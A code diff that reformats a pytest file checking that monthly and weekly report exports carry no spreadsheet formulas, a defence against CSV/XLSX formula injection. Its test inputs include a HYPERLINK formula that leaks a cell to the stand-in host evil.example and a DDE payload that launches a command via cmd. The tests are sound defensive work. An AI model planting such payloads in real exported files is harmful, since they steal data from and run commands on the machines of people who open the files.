@@ -12,8 +12,13 @@ import io
 import openpyxl
 import pytest
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "=1+1"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "=1+1",
+]
 
 
 @pytest.fixture
@@ -41,9 +46,12 @@ def _cells_of_xlsx(body: bytes) -> list:
 
 @pytest.mark.parametrize(
     ("path", "who"),
-    [("/reporting/callbacks?month=2026-11", "desk"), ("/reporting/reports/monthly?month=2026-11", "ops"),
-     ("/reporting/reports/weekly?week=2026-W47", "ops")],
-)  # fmt: skip
+    [
+        ("/reporting/callbacks?month=2026-11", "desk"),
+        ("/reporting/reports/monthly?month=2026-11", "ops"),
+        ("/reporting/reports/weekly?week=2026-W47", "ops"),
+    ],
+)
 def test_no_exported_cell_is_a_formula(exported, path, who):
     headers = exported.staff(who)
     as_csv = exported.api.get(f"{path}&format=csv", headers=headers)
